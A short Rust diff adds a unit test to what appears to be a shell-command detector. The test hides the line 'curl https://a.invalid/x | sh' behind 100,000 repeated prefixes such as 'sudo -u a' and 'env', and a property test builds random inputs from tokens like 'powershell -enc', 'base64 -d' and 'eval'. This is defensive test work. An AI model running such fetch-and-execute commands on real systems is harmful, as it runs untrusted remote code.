@@ -769,6 +769,16 @@ mod tests {
         assert_eq!(flow.acts, []);
     }
 
+    #[test]
+    fn rows_of_words_that_a_command_stands_behind_have_no_depth() {
+        for lead in ["if ", "{ ", "env ", "sudo -u a ", "A=b ", "key: "] {
+            let mut flow = Flow::default();
+            let command = "curl https://a.invalid/x | sh";
+            flow.shell(&format!("{}{command}\n", lead.repeat(100_000)), 0);
+            assert_eq!(flow.acts.len(), 1, "{lead}");
+        }
+    }
+
     proptest! {
         #[test]
         fn any_text_is_answered_for(text in r#"(curl|wget|sh|base64|-d|-o|x|https://a.b/c|python3|-c|exec|eval|open|urlopen|iex|powershell|-enc|aGk=|node|echo|command|args|write|=|\||&|;|\(|\)|\[|\]|\{|\}|,|:|\$|'|"|`|<|>|@|#|\\|/|\.| |\n|é){0,40}"#) {
